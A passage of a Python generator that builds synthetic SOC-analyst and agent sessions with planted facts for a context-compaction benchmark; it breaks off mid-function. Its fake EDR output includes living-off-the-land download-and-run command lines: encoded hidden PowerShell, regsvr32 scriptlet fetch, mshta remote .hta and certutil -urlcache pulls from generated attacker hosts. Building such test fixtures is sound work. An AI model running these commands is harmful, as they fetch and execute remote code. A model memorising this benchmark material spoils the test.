"""Long security-operations sessions (a SOC analyst and their agent) with planted facts, for the fidelity bench.

    from gen_security import make_session
    session = make_session(seed=1, messages=400)     # about 150k tokens at 4 characters a token
    session = make_session(seed=1, messages=3000)    # about 1.2M tokens

An analyst at Norrvik Freight, a Nordic logistics company (sites in Göteborg, Hamburg, Rotterdam,
Gdańsk, Malmö and Oslo), works alerts and incidents with an agent. ``session.messages`` is an OpenAI
chat conversation: a system prompt, the analyst's terse chat turns (lower case, typos, "ok", "hmm",
an emoji, now and then German, Swedish, French or Spanish, several asks in one message), assistant
``tool_calls`` (siem_search, edr_process_tree, edr_isolate, ioc_lookup, ticket_update,
firewall_rule, iam_query, sandbox_detonate, mail_trace, read_file, write_file, edit_file, shell)
answered by ``tool`` results (failures carry ``is_error: true``): Splunk and KQL result tables,
EDR process trees, JSON alerts, CloudTrail and Okta events, sandbox reports, Sigma and YARA rules,
nmap, curl, dig, zeek and auth.log output, Volatility listings, mail headers. They are full of
identifier-looking noise (hashes, IPs, hostnames, 14:03:22 timestamps, ports, file:line) that does
not matter. The analyst pastes other people's words: vendor advisories, phishing mails with their
own "reset your password now", ransom notes ("do not contact the police"), pentest findings,
threat-intel feeds, a manager's mail, an insurer's conditions. Those are evidence, never the
analyst's instructions, and ``session.pasted`` lists them. An IR policy the analyst adopts ("this
is our IR policy, follow it") is her rule, not pasted, and hides a rule deep in a long document.
The session ends on a user turn right after an assistant answer without tool calls.

``session.facts`` are what a compacted context must keep, ``per_kind(messages)`` of each kind
(6 at 400 messages, 12 at 3000), between 3% and 88% of the session, early to late:
instruction (a standing rule, in many shapes and languages), correction (a value the analyst gave
earlier, corrected, often a near miss: SEC-4141 -> SEC-4411), decision (a choice with its reason,
some revised later), error (a failed tool call's distinctive line, a few pasted), file (a path the
agent wrote), identifier (a case id, hash, attacker IP, account), finding (a root cause or value a
tool turned up) and plan (a distinctive step of the analyst's plan). A value occurs in no message
before its own and in no filler message. Same seed and size, same bytes. Sizes under 40 messages
raise ValueError; under 120 (one fact of each kind) no decision is revised.

Written from its own short spec, without reading the engine under test.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from sessiongen import Fact, Session

Message = dict[str, Any]
KINDS = ("instruction", "correction", "decision", "error", "file", "identifier", "finding", "plan")
TOOLS = ("siem_search", "edr_process_tree", "edr_isolate", "ioc_lookup", "ticket_update", "firewall_rule",
         "iam_query", "sandbox_detonate", "mail_trace", "read_file", "write_file", "edit_file", "shell")
LO, HI = 0.045, 0.83  # where fact targets go; episodes drift a little later, all stay inside 3%..88%
MIN_MESSAGES = 40


def per_kind(messages: int) -> int:
    """Facts of each kind: one per 60 messages, at least one and at most twelve."""
    return max(1, min(12, messages // 60))


# --- the world: names, places, and token makers ------------------------------------------------

COMPANY, DOMAIN, AD = "Norrvik Freight", "norrvikfreight.com", "corp.norrvik.local"
SITES = (("GBG", "Göteborg", 10), ("HAM", "Hamburg", 20), ("RTM", "Rotterdam", 30), ("GDN", "Gdańsk", 40),
         ("MMA", "Malmö", 50), ("OSL", "Oslo", 60))
ROLES = ("DC", "FS", "SQL", "APP", "TMS", "WMS", "RDS", "EXCH", "PRN", "JMP", "WEB", "BKP", "SAP", "CTX")
SURNAMES = ("lindqvist", "nyberg", "holm", "berg", "sandberg", "ek", "wallin", "lund", "strand", "forsberg",
            "dahl", "sjoberg", "engstrom", "bergstrom", "nilsson", "schulz", "becker", "wagner", "hoffmann",
            "vogel", "brandt", "bakker", "visser", "kowalski", "nowak", "wojcik", "jensen", "hansen", "larsen",
            "olsen", "moreau", "garcia", "haugen", "berger", "novak", "fischer", "smit", "mulder", "zielinski",
            "aberg", "magnusson", "lindgren", "axelsson", "ström", "krause")
NEAR_NAMES = (("karlsson", "carlsson"), ("andersson", "anderson"), ("eriksson", "ericsson"),
              ("pettersson", "petersson"), ("johansson", "johanson"), ("lindkvist", "lindqvist"),
              ("sundqvist", "sundkvist"), ("bergkvist", "bergqvist"), ("schmidt", "schmitt"),
              ("meyer", "mayer"), ("janssen", "jansen"), ("fredriksson", "fredricsson"),
              ("mikkelsen", "michelsen"), ("nielsen", "nilsen"))
PEOPLE = (("Karin Ekholm", "CISO"), ("Jonas Weber", "SAP basis"), ("Maja Lund", "DPO"),
          ("Pieter de Vries", "network"), ("Ola Strand", "infra on-call"), ("Agnieszka Nowak", "Gdańsk IT"),
          ("Sven Dahl", "helpdesk lead"), ("Lotte Janssen", "legal"), ("Mikael Berg", "finance"),
          ("Elif Demir", "cloud platform"), ("Henrik Sjöberg", "OT engineering"), ("Paula Ortiz", "HR"))
EXT_FIRST = (23, 31, 37, 45, 62, 77, 89, 91, 103, 141, 146, 159, 176, 185, 193, 212)
COUNTRIES = ("SE", "DE", "NL", "PL", "NO", "DK", "US", "RU", "CN", "BR", "NG", "VN", "RO", "UA", "IR", "TR")
BENIGN_DOMAINS = ("login.microsoftonline.com", "outlook.office365.com", "update.googleapis.com", "github.com",
                  "ctldl.windowsupdate.com", "api.sap.com", "s3.eu-north-1.amazonaws.com", "ocsp.digicert.com",
                  "teams.microsoft.com", "slack.com", "dhl.com", "maersk.com", "cdn.jsdelivr.net",
                  "edge.microsoft.com", "norrvikfreight.com", "track.norrvikfreight.com", "vpn.norrvikfreight.com")
BAD_WORDS = ("cargo", "track", "invoice", "secure", "portal", "update", "docs", "share", "login", "office",
             "freight", "waybill", "parcel", "ship", "cloud", "sync", "verify", "auth", "files", "drive",
             "mail", "cdn", "static", "metrics", "telemetry", "status", "helpdesk", "payroll")
FILLER_TLDS = (".info", ".net", ".biz", ".online", ".site", ".live")
FACT_TLDS = (".top", ".xyz", ".click", ".monster", ".quest", ".cfd")
PROCS = ("svchost.exe", "explorer.exe", "chrome.exe", "msedge.exe", "outlook.exe", "teams.exe", "winword.exe",
         "excel.exe", "powershell.exe", "cmd.exe", "rundll32.exe", "regsvr32.exe", "mshta.exe", "wmiprvse.exe",
         "conhost.exe", "taskhostw.exe", "onedrive.exe", "sapgui.exe", "lsass.exe", "services.exe",
         "wscript.exe", "certutil.exe", "bitsadmin.exe", "msiexec.exe", "dllhost.exe", "searchindexer.exe")
TECHNIQUES = (("T1566.001", "Spearphishing Attachment"), ("T1059.001", "PowerShell"), ("T1547.001", "Run Keys"),
              ("T1053.005", "Scheduled Task"), ("T1218.011", "Rundll32"), ("T1003.001", "LSASS Memory"),
              ("T1021.001", "Remote Desktop Protocol"), ("T1078", "Valid Accounts"), ("T1110.003", "Password Spraying"),
              ("T1071.001", "Web Protocols"), ("T1041", "Exfiltration Over C2 Channel"), ("T1486", "Data Encrypted for Impact"),
              ("T1114.003", "Email Forwarding Rule"), ("T1558.003", "Kerberoasting"), ("T1190", "Exploit Public-Facing Application"),
              ("T1105", "Ingress Tool Transfer"), ("T1027", "Obfuscated Files or Information"), ("T1562.001", "Disable or Modify Tools"))
TOPICS = ("rundll32_proxy", "lsass_dump", "mshta_child", "encoded_ps", "office_macro", "dns_tunnel", "rclone_exfil",
          "inbox_rule", "impossible_travel", "spray", "kerberoast", "schtask_persist", "certutil_download",
          "vssadmin_delete", "wmi_lateral", "psexec", "new_admin", "aws_key_abuse", "oauth_consent", "webshell")
FAMILIES = ("qakbot", "icedid", "pikabot", "lumma", "redline", "asyncrat", "cobaltstrike", "sliver", "akira",
            "blackbasta", "lockbit", "darkgate", "smokeloader", "latrodectus", "remcos", "agenttesla")


def _hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def _uuid(rng: random.Random) -> str:
    h = _hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[rng.randrange(4)]}{h[17:20]}-{h[20:]}"


def _day(rng: random.Random) -> str:
    return f"2025-03-{rng.randint(3, 27):02d}"


def _hms(rng: random.Random) -> str:
    return f"{rng.randint(0, 23):02d}:{rng.randint(0, 59):02d}:{rng.randint(0, 59):02d}"


def _ts(rng: random.Random, z: str = "Z") -> str:
    return f"{_day(rng)}T{_hms(rng)}{z}"


def _ts_ms(rng: random.Random) -> str:
    return f"{_day(rng)}T{_hms(rng)}.{rng.randint(0, 999):03d}Z"


def _upper(rng: random.Random, n: int, alphabet: str = "ABCDEFGHJKLMNPQRSTUVWXYZ234567") -> str:
    return "".join(rng.choice(alphabet) for _ in range(n))


def _ws(rng: random.Random) -> str:
    return f"{rng.choice(('WS', 'WS', 'LT'))}-{rng.randint(100, 9999):04d}"


def _srv(rng: random.Random) -> str:
    return f"{rng.choice(SITES)[0]}-{rng.choice(ROLES)}-{rng.randint(1, 40):02d}"


def _int_ip(rng: random.Random, site: int | None = None) -> str:
    base = site if site is not None else rng.choice(SITES)[2]
    return f"10.{base + rng.randint(0, 7)}.{rng.randint(1, 254)}.{rng.randint(10, 250)}"


def _ext_ip(rng: random.Random) -> str:
    return f"{rng.choice(EXT_FIRST)}.{rng.randint(1, 254)}.{rng.randint(0, 254)}.{rng.randint(2, 250)}"


def _bad_domain(rng: random.Random, tlds: tuple[str, ...]) -> str:
    a, b = rng.sample(BAD_WORDS, 2)
    shape = rng.randrange(3)
    name = f"{a}-{b}" if shape == 0 else f"{a}{b}{rng.randint(2, 99)}" if shape == 1 else f"{a}-{b}-{rng.choice(('eu', 'se', 'nvf', 'global', 'cdn'))}"
    return name + rng.choice(tlds)


def _account(rng: random.Random) -> str:
    return f"{rng.choice('abcdefghijklmnoprstuvw')}.{rng.choice(SURNAMES)}"


def _fact_account(rng: random.Random) -> str:
    """An account for a fact: a longer surname, so it is no part of anything else."""
    return f"{rng.choice('abcdefghijklmnoprstuvw')}.{rng.choice([x for x in SURNAMES if len(x) >= 6])}"


def _ticket(rng: random.Random) -> str:
    return f"SEC-{rng.randint(1000, 9999)}"


def _inc(rng: random.Random) -> str:
    return f"INC{rng.randint(100000, 9999999):07d}"


def _cve(rng: random.Random) -> str:
    return f"CVE-{rng.choice((2023, 2024, 2025))}-{rng.randint(20000, 59999)}"


def _aws(rng: random.Random) -> str:
    return "".join(str(rng.randint(0, 9)) for _ in range(12))


def _swap(rng: random.Random, s: str, lo: int) -> str:
    """Swap two adjacent, different characters of s at or after lo: the easily confused near miss."""
    spots = [i for i in range(lo, len(s) - 1) if s[i] != s[i + 1] and s[i].isdigit() and s[i + 1].isdigit()]
    if not spots:
        return s
    i = rng.choice(spots)
    return s[:i] + s[i + 1] + s[i] + s[i + 2:]


class World:
    """The session's recurring noise: hosts, people, addresses, tickets; nothing that contains a reserved value."""

    def __init__(self, rng: random.Random, reserved: set[str]) -> None:
        def keep(items: list[str], size: int) -> list[str]:
            out = [x for x in dict.fromkeys(items) if not any(r in x for r in reserved)]
            return out[:size]

        r = rng
        self.ws = keep([_ws(r) for _ in range(260)], 200)
        self.srv = keep([_srv(r) for _ in range(140)], 100)
        self.accounts = keep([_account(r) for _ in range(160)], 90)
        self.svc = keep([f"svc-{w}" for w in ("tms-sync", "backup", "sapbatch", "scan01", "print", "wms-api",
                                                "edi", "veeam", "sccm", "splunkfwd", "adsync", "jira")], 12)
        self.int_ips = keep([_int_ip(r) for _ in range(400)], 300)
        self.ext_ips = keep([_ext_ip(r) for _ in range(300)], 220)
        self.domains = keep([_bad_domain(r, FILLER_TLDS) for _ in range(140)], 100)
        self.tickets = keep([_ticket(r) for _ in range(260)], 180)
        self.incs = keep([_inc(r) for _ in range(120)], 90)
        self.cves = keep([_cve(r) for _ in range(80)], 50)
        self.aws = keep([_aws(r) for _ in range(12)], 6)
        self.vlans = keep([f"VLAN {r.randint(100, 999)}" for _ in range(60)], 40)
        self.rules = keep([f"NVF-EDGE-{r.randint(1000, 9999)}" for _ in range(80)], 60)
        self.files = keep([f"{r.choice(('Invoice', 'Faktura', 'Rechnung', 'Fraktsedel', 'Remittance', 'PO'))}_"
                           f"{r.randint(10000, 99999)}.{r.choice(('pdf.lnk', 'zip', 'xlsm', 'iso', 'html', 'one'))}"
                           for _ in range(80)], 60)
        self.rng = rng

    def pick(self, pool: str) -> str:
        return self.rng.choice(getattr(self, pool))

    def host(self) -> str:
        return self.rng.choice(self.ws) if self.rng.random() < 0.7 else self.rng.choice(self.srv)

    def person(self) -> str:
        return self.rng.choice(PEOPLE)[0]


# --- text helpers ------------------------------------------------------------------------------


def _cols(headers: list[str], rows: list[list[Any]], sep: str = "  ") -> str:
    """A Splunk-style table: padded columns under a dashed rule."""
    widths = [max(len(str(h)), *(len(str(r[i])) for r in rows)) if rows else len(h) for i, h in enumerate(headers)]

    def line(cells: list[Any]) -> str:
        return sep.join(str(c).ljust(widths[i]) for i, c in enumerate(cells)).rstrip()

    return "\n".join([line(headers), sep.join("-" * w for w in widths)] + [line(r) for r in rows])


def _pipe(headers: list[str], rows: list[list[Any]]) -> str:
    """A KQL / markdown-style table."""
    out = ["| " + " | ".join(headers) + " |", "|" + "|".join("---" for _ in headers) + "|"]
    out += ["| " + " | ".join(str(c) for c in r) + " |" for r in rows]
    return "\n".join(out)


def _csv(headers: list[str], rows: list[list[Any]]) -> str:
    return "\n".join([",".join(headers)] + [",".join(str(c) for c in r) for r in rows])


def _js(obj: Any) -> str:
    return json.dumps(obj, indent=2, ensure_ascii=False)


def _insert(rng: random.Random, rows: list[Any], row: Any, lo: int = 1) -> list[Any]:
    """rows with row put somewhere in the middle (not first, not necessarily last)."""
    at = rng.randint(min(lo, len(rows)), max(min(lo, len(rows)), len(rows) - 1))
    return rows[:at] + [row] + rows[at:]


@dataclass
class Step:
    """One tool call of an episode: what is asked, the call, what comes back, and how the answer sums it up."""

    tool: str
    args: dict[str, Any]
    output: str
    summary: str
    asks: tuple[str, ...] = ()
    say: str = ""
    error: bool = False


INTERJECTIONS = ("", "", "", "", "ok ", "ok so ", "hmm ", "right, ", "k ", "morning! ", "back. ", "ok next: ",
                 "quick one: ", "so ", "alright ", "ugh ", "next thing: ", "hey ", "oki ", "kk ", "btw ", "also ")
TAILS = ("", "", "", "", "", " thx", " pls", " 🙏", " 👀", " :)", " ty", " asap", " when you get a sec", " 🙃",
         " cheers", " danke", " tack", " merci", " (no rush)", "?", " 🔥", " 😬")
JOINERS = (". also ", " + ", "\nand ", ". then ", "; ", "\n- ", " and ", ". oh and ", "\nalso: ")
CALL_SAYS = ("", "", "On it.", "Checking.", "Running that now.", "Pulling it.", "Let me look.", "Querying.",
             "Looking that up.", "One sec.", "Starting with this.", "Sure.")
CLOSERS = ("", "", "", "Want me to put this in the ticket?", "Tell me if you want the raw rows exported.",
           "I can widen the time range if you want.", "Next I'd check the neighbouring hosts.",
           "Nothing here needs action from my side right now.", "I'll keep an eye on it.",
           "Shall I draft the ticket comment?", "Ping me if you want the query saved as a hunt.",
           "If you want, I can pivot on the hashes next.")


def _typo(rng: random.Random, text: str) -> str:
    """One typo in a plain word (letters only, five or more): a swap, a drop or a doubled letter."""
    words = text.split(" ")
    spots = [i for i, w in enumerate(words) if len(w) >= 5 and w.isalpha() and w.isascii()]
    if not spots:
        return text
    i = rng.choice(spots)
    w = words[i]
    j = rng.randrange(1, len(w) - 2)
    how = rng.randrange(3)
    words[i] = w[:j] + w[j + 1] + w[j] + w[j + 2:] if how == 0 else w[:j] + w[j + 1:] if how == 1 else w[:j] + w[j] + w[j:]
    return " ".join(words)


def casual(rng: random.Random, text: str, typos: float = 0.3, tail: bool = True) -> str:
    """The analyst's chat voice: mostly lower case, a typo now and then, an interjection, a tail (not mid-sentence)."""
    if rng.random() < 0.7 and text[:1].isupper() and not text[1:2].isupper():
        text = text[0].lower() + text[1:]
    if rng.random() < typos:
        text = _typo(rng, text)
    return rng.choice(INTERJECTIONS) + text + (rng.choice(TAILS) if tail else "")


# --- the filler tasks: one-off requests, their tool calls and realistic output ----------------
# Each takes the generator (its rng and world) and optionally the thing to look at, and returns a
# Step. Facts reuse them with their own values and plant a line in the output where needed.


def _cmdline(g: Gen, proc: str) -> str:
    r, w = g.rng, g.w
    table = {
        "powershell.exe": lambda: f"powershell.exe -NoP -NonI -W Hidden -enc {_b64(r, r.randint(40, 90))}",
        "cmd.exe": lambda: "cmd.exe /c " + r.choice(('whoami /all', 'net group "domain admins" /domain', 'ipconfig /all', 'tasklist /v', 'nltest /dclist:norrvik')),
        "rundll32.exe": lambda: f"rundll32.exe C:\\Users\\Public\\{_hex(r, 6)}.dll,{r.choice(('DllRegisterServer', 'Start', 'Control_RunDLL', '#1'))}",
        "regsvr32.exe": lambda: f"regsvr32.exe /s /n /u /i:http://{w.pick('domains')}/{_hex(r, 5)}.sct scrobj.dll",
        "mshta.exe": lambda: f"mshta.exe https://{w.pick('domains')}/{_hex(r, 8)}.hta",
        "certutil.exe": lambda: f"certutil.exe -urlcache -split -f http://{w.pick('ext_ips')}:{r.choice((80, 8080, 8443))}/{_hex(r, 4)}.bin C:\\ProgramData\\{_hex(r, 4)}.tmp",
        "chrome.exe": lambda: f"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --field-trial-handle={r.randint(1000, 9999)}",
        "outlook.exe": lambda: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
        "svchost.exe": lambda: f"C:\\Windows\\system32\\svchost.exe -k {r.choice(('netsvcs', 'LocalServiceNetworkRestricted', 'DcomLaunch', 'RPCSS', 'UnistackSvcGroup'))} -p",
        "winword.exe": lambda: f"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{w.pick('accounts')}\\Downloads\\{w.pick('files').split('.')[0]}.docm\"",
    }
    return table.get(proc, lambda: f"C:\\Windows\\System32\\{proc}")()


def _b64(rng: random.Random, n: int) -> str:
    abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(rng.choice(abc) for _ in range(n)) + "=="


def t_proc_tree(g: Gen, host: str | None = None, plant: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    user = w.pick("accounts")
    lines = [f"Process tree for {host} (sensor 7.{r.randint(10, 19)}.{r.randint(1000, 9999)}, last seen {_ts(r)})",
             f"host_id={_hex(r, 32)}  os=Windows 11 23H2 (build 22631.{r.randint(3000, 4999)})  ou=OU={r.choice(SITES)[1].encode('ascii', 'ignore').decode()},OU=Clients", ""]
    depth_names = [("wininit.exe", 0), ("services.exe", 1), ("svchost.exe", 2), ("explorer.exe", 0)]
    depth_names += [(r.choice(PROCS), r.randint(1, 4)) for _ in range(r.randint(18, 28))]
    pid = r.randint(400, 900)
    for name, depth in depth_names:
        pid += r.randint(4, 1900)
        pre = "│  " * max(0, depth - 1) + ("├─ " if depth else "")
        lines.append(f"{pre}{name} (pid {pid}, ppid {pid - r.randint(4, 3000)}) user={AD.split('.')[1].upper()}\\{user} "
                     f"started {_hms(r)} sha256={_hex(r, 64)}")
        lines.append(f"{'│  ' * depth}   cmd: {_cmdline(g, name)}")
        if r.random() < 0.25:
            lines.append(f"{'│  ' * depth}   net: {w.pick('int_ips')}:{r.randint(49152, 65535)} -> {r.choice((w.pick('ext_ips'), w.pick('int_ips')))}:{r.choice((443, 445, 80, 135, 3389, 8443, 53))}")
    if plant:
        at = r.randint(len(lines) // 2, len(lines) - 2)
        lines.insert(at, plant)
    lines += ["", f"{len(depth_names)} processes, {r.randint(0, 3)} detections, tree truncated at depth 5"]
    odd = r.choice(PROCS[8:])
    return Step("edr_process_tree", {"host": host, "depth": 5, "include_cmdline": True}, "\n".join(lines),
                r.choice((f"The tree on {host} is mostly the usual ({len(depth_names)} processes); the only odd branch is {odd} under explorer.exe, which matches the software-deploy job of {user}.",
                          f"{host}: nothing injected into lsass, no unsigned binaries in the tree. {odd} runs as {user} from the expected path.",
                          f"Process tree for {host} pulled. {odd} has a network connection out, but to an address we already allow-list.")),
                (f"pull the process tree for {host}", f"can you get the proc tree of {host}", f"whats running on {host}? tree pls",
                 f"kannst du mal den Prozessbaum von {host} ziehen", f"show me what spawned what on {host}"),
                r.choice((f"Pulling the process tree for {host}.", "", "Getting the tree from the EDR.")))


def _signin_rows(g: Gen, acct: str, n: int) -> list[list[Any]]:
    r, w = g.rng, g.w
    apps = ("Office 365 Exchange Online", "Microsoft Teams", "Azure Portal", "SAP Fiori", "Okta Dashboard", "VPN (Corvane)", "SharePoint Online")
    rows = []
    for _ in range(n):
        c = r.choice(("SE", "SE", "SE", "DE", "NL", "PL", "NO"))
        rows.append([_ts(r), f"{acct}@{DOMAIN}", r.choice(w.ext_ips), c, r.choice(apps),
                     r.choice((0, 0, 0, 0, 50126, 50074, 53003, 500121)), r.choice(("success", "success", "notApplied", "failure")),
                     r.choice(("none", "none", "low", "medium"))])
    return sorted(rows)


SIGNIN_HEAD = ["TimeGenerated", "UserPrincipalName", "IPAddress", "Location", "AppDisplayName", "ResultType", "ConditionalAccessStatus", "RiskLevel"]


def t_signins(g: Gen, acct: str | None = None) -> Step:
    r, w = g.rng, g.w
    acct = acct or w.pick("accounts")
    days = r.choice((3, 7, 14))
    rows = _signin_rows(g, acct, r.randint(30, 48))
    q = (f"SigninLogs\n| where TimeGenerated > ago({days}d)\n| where UserPrincipalName =~ \"{acct}@{DOMAIN}\"\n"
         "| project TimeGenerated, UserPrincipalName, IPAddress, Location, AppDisplayName, ResultType, ConditionalAccessStatus, RiskLevel\n| order by TimeGenerated asc")
    out = f"Workspace: nvf-sentinel-prod  |  {len(rows)} rows  |  {r.randint(300, 2900)} ms\n\n" + _pipe(SIGNIN_HEAD, rows)
    fails = sum(1 for x in rows if x[5])
    return Step("siem_search", {"engine": "sentinel", "query": q, "timespan": f"P{days}D"}, out,
                r.choice((f"{acct}: {len(rows)} sign-ins over {days} days, {fails} failures, all from SE/DE/NL/PL/NO ranges we see for the VPN exit nodes. No impossible travel.",
                          f"Sign-ins for {acct} look normal: {fails} failed (mostly 50126, wrong password) and MFA satisfied on the rest.",
                          f"{len(rows)} sign-in rows for {acct}; the failures cluster around one morning, consistent with a password change.")),
                (f"check sign-ins for {acct} last {days} days", f"can you look at {acct}'s signins", f"pull SigninLogs for {acct}",
                 f"¿puedes revisar los inicios de sesión de {acct}?", f"anything weird in {acct} sign-ins this week"),
                r.choice(("Querying SigninLogs.", "", f"Looking at {acct}'s sign-ins.")))


def t_failed(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("srv")
    rows = [[r.choice(w.int_ips + w.ext_ips[:20]), r.choice(w.accounts + w.svc), r.choice((3, 3, 10, 2, 8)),
             r.choice(("Unknown user name or bad password.", "Account locked out.", "Account currently disabled.", "The user has not been granted the requested logon type.")),
             r.randint(1, 240), _ts(r)] for _ in range(r.randint(35, 55))]
    rows.sort(key=lambda x: -x[4])
    q = f'index=wineventlog sourcetype="WinEventLog:Security" EventCode=4625 dest="{host}" earliest=-24h | stats count, latest(_time) as last by src_ip, user, Logon_Type, Failure_Reason | sort -count'
    out = (f"Search job sid=scheduler__soc__{_hex(r, 10)} finished: {r.randint(2000, 90000):,} events scanned, {len(rows)} results ({r.random() * 4:.2f}s)\n\n"
           + _cols(["src_ip", "user", "Logon_Type", "Failure_Reason", "count", "last"], [[a, b, c, d, e, f] for a, b, c, d, e, f in rows]))
    return Step("siem_search", {"engine": "splunk", "query": q, "earliest": "-24h"}, out,
                f"Failed logons on {host}: the top source is {rows[0][0]} with {rows[0][4]} failures for {rows[0][1]} ({rows[0][3].rstrip('.').lower()}). The rest is background noise.",
                (f"failed logons on {host} last 24h?", f"4625s on {host} pls", f"who's hammering {host} with bad passwords",
                 f"kan du kolla misslyckade inloggningar på {host}"),
                r.choice(("Searching 4625 events in Splunk.", "", "Running the failed-logon search.")))


def _vt(g: Gen, ind: str, kind: str, bad: int) -> dict[str, Any]:
    r = g.rng
    vendors = ("Kaspersky", "ESET-NOD32", "Sophos", "Microsoft", "BitDefender", "CrowdStrike", "SentinelOne", "Fortinet",
               "TrendMicro", "Avast", "McAfee", "Symantec", "Malwarebytes", "Elastic", "Google", "Palo Alto Networks",
               "Cynet", "DrWeb", "Ikarus", "Emsisoft", "GData", "Zillya")
    res = {}
    for v in vendors:
        hit = r.random() < bad / 70
        res[v] = {"category": "malicious" if hit else "undetected", "result": f"{r.choice(FAMILIES).title()}.{r.choice(('Gen', 'A', 'Trojan', 'Loader'))}" if hit else None,
                  "engine_update": f"2025{r.randint(301, 328):04d}"}
    return {"data": {"id": ind, "type": kind, "attributes": {
        "last_analysis_stats": {"malicious": bad, "suspicious": r.randint(0, 3), "undetected": 70 - bad, "harmless": r.randint(0, 10)},
        "last_analysis_date": r.randint(1740000000, 1743000000), "first_submission_date": r.randint(1690000000, 1740000000),
        "reputation": -bad * r.randint(1, 4), "tags": r.sample(("peexe", "signed", "overlay", "detect-debug-environment", "long-sleeps", "checks-user-input", "64bits", "macro", "obfuscated", "runtime-modules"), 4),
        "last_analysis_results": res}}}


def t_ioc_hash(g: Gen, h: str | None = None) -> Step:
    r = g.rng
    h = h or _hex(r, 64)
    bad = r.choice((0, 0, 2, 5, 31, 48, 55))
    out = _js(_vt(g, h, "file", bad))
    verdict = "clean as far as VT knows" if bad < 3 else f"malicious, {bad}/70 engines"
    return Step("ioc_lookup", {"indicator": h, "type": "sha256", "sources": ["virustotal", "hollowpoint"]}, out,
                f"The hash {h[:12]}… is {verdict}.",
                (f"vt this hash {h}", f"lookup {h} pls", f"is {h} known?", f"peux-tu vérifier ce hash sur VT : {h}"),
                r.choice(("Looking up the hash.", "", "Checking VirusTotal and the Hollowpoint feed.")))


def t_ioc_domain(g: Gen, d: str | None = None) -> Step:
    r, w = g.rng, g.w
    d = d or w.pick("domains")
    bad = r.choice((0, 1, 4, 9, 14))
    data = _vt(g, d, "domain", bad)
    data["data"]["attributes"]["whois"] = f"Creation Date: {_day(r)}\nRegistrar: {r.choice(('NameSilo, LLC', 'Namecheap, Inc.', 'PDR Ltd.', 'Hostinger'))}\nRegistrant Country: {r.choice(COUNTRIES)}"
    data["data"]["attributes"]["last_dns_records"] = [{"type": "A", "value": w.pick("ext_ips"), "ttl": r.choice((60, 300, 3600))} for _ in range(r.randint(1, 4))]
    return Step("ioc_lookup", {"indicator": d, "type": "domain", "sources": ["virustotal", "hollowpoint", "urlhaus"]}, _js(data),
                f"{d}: {bad}/70 detections, registered recently, resolves to {len(data['data']['attributes']['last_dns_records'])} address(es).",
                (f"check {d} on vt", f"what do we know about {d}", f"look up {d}", f"¿qué sabemos de {d}?"),
                r.choice(("Looking up the domain.", "")))


def t_ioc_ip(g: Gen, ip: str | None = None) -> Step:
    r, w = g.rng, g.w
    ip = ip or w.pick("ext_ips")
    bad = r.choice((0, 0, 3, 7, 12))
    data = _vt(g, ip, "ip_address", bad)
    data["data"]["attributes"].update({"asn": r.randint(1000, 210000), "as_owner": r.choice(("DIGITALOCEAN-ASN", "OVH SAS", "Hetzner Online GmbH", "M247 Europe SRL", "Stark Industries Solutions Ltd", "AMAZON-02", "Telia Company AB")),
                                       "country": r.choice(COUNTRIES), "network": f"{ip.rsplit('.', 2)[0]}.0.0/16"})
    a = data["data"]["attributes"]
    return Step("ioc_lookup", {"indicator": ip, "type": "ip", "sources": ["virustotal", "abuseipdb", "hollowpoint"]}, _js(data),
                f"{ip} belongs to {a['as_owner']} ({a['country']}), {bad}/70 detections.",
                (f"who is {ip}", f"check {ip} in TI", f"is {ip} in any feed?", f"kolla {ip} i TI-flödet"),
                r.choice(("Checking the IP.", "")))


def t_isolate(g: Gen, host: str | None = None) -> Step:
    r, w = g.rng, g.w
    host = host or w.pick("ws")
    out = _js({"resource": {"device_id": _hex(r, 32), "hostname": host, "action": "contain", "state": "containment_pending",
                            "requested_by": "soc-agent", "requested_at": _ts(r), "policy": "NVF-Containment-Std",
                            "allowlist": ["edr-cloud", "nvf-sccm-01", "nvf-splunk-hf"],
                            "device": {"platform": "Windows", "os_version": "Windows 11", "agent_version": f"7.{r.randint(10, 19)}.{r.randint(1000, 9999)}.0",
                                       "local_ip": w.pick("int_ips"), "external_ip": w.pick("ext_ips"), "mac_address": "-".join(_hex(r, 2) for _ in range(6)),
                                       "last_seen": _ts(r), "first_seen": _ts(r), "ou": ["Clients", r.choice(SITES)[1]], "tags": r.sample(("SensorGroupingTags/clients", "FalconGroupingTags/nvf", "site/" + r.choice(SITES)[0].lower(), "vip"), 2),
                                       "policies": [{"policy_type": t, "policy_id": _hex(r, 32), "applied": True, "applied_date": _ts(r)} for t in ("prevention", "sensor-update", "device-control", "firewall", "remote-response")]},
                            "recent_detections": [{"id": f"ldt:{_hex(r, 32)}:{r.randint(10**9, 10**10)}", "tactic": r.choice(("Execution", "Persistence", "Defense Evasion")),
                                                   "severity": r.randint(10, 90), "filename": r.choice(PROCS), "sha256": _hex(r, 64)} for _ in range(r.randint(2, 5))]},
               "meta": {"trace_id": _uuid(r), "powered_by": "device-api", "query_time": round(r.random(), 4)}, "errors": []})
    return Step("edr_isolate", {"host": host, "reason": f"suspicious activity, see {w.pick('tickets')}", "mode": "contain"}, out,
                f"{host} is going into network containment (state containment_pending); EDR and SCCM stay reachable.",
                (f"isolate {host}", f"contain {host} pls, user confirmed the popup was not them", f"go ahead and isolate {host}",
                 f"isoler {host} s'il te plaît"),
                f"Isolating {host}.")


def _ticket_obj(g: Gen, t: str, status: str, comment: str) -> dict[str, Any]:
    r, w = g.rng, g.w
    hist = [{"author": r.choice(("soc-agent", "analyst", w.pick("accounts"))), "at": _ts(r),
             "body": r.choice(("Triage started.", f"EDR alert on {w.pick('ws')}, see attached tree.", "Waiting for user callback.",
                               f"IOC {w.pick('ext_ips')} added to blocklist.", "Escalated to L2.", "User confirmed the mail was unexpected.",
                               f"Linked {w.pick('incs')}.", "Sandbox verdict attached."))} for _ in range(r.randint(9, 16))]
